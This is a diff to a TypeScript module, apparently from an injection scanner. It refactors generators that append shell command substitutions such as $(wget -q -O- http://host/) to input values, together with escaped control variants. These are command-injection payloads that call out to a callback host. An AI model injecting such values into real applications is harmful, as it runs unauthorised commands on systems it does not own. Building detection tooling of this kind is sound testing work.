@@ -35,38 +35,22 @@ const fetching = (host: string): readonly [string, string] => [
   `wget -q -O- http://${host}/`,
 ];
 
+const each = (host: string, write: (command: string) => string): string => fetching(host).map(write).join('');
+const substituted = (host: string): string => each(host, (command) => `$(${command})`);
+
 /** Only substitutions, which leave the command of the application whole. */
 export const SHELL_CALLBACKS: readonly CallbackSyntax[] = [
   {
     id: 'callback-shell',
     by: 'A shell runs the command',
-    write: (value, host) =>
-      value +
-      fetching(host)
-        .map((command) => `$(${command})`)
-        .join(''),
-    controls: [
-      (value, host) =>
-        value +
-        fetching(host)
-          .map((command) => `\\$\\(${command}\\)`)
-          .join(''),
-    ],
+    write: (value, host) => value + substituted(host),
+    controls: [(value, host) => value + each(host, (command) => `\\$\\(${command}\\)`)],
   },
   {
     id: 'callback-shell-quotes',
     by: 'A shell runs the command',
-    write: (value, host) =>
-      `${value}'${fetching(host)
-        .map((command) => `$(${command})`)
-        .join('')}'`,
-    controls: [
-      (value, host) =>
-        value +
-        fetching(host)
-          .map((command) => `$(${command})`)
-          .join(''),
-    ],
+    write: (value, host) => `${value}'${substituted(host)}'`,
+    controls: [(value, host) => value + substituted(host)],
   },
 ];
 
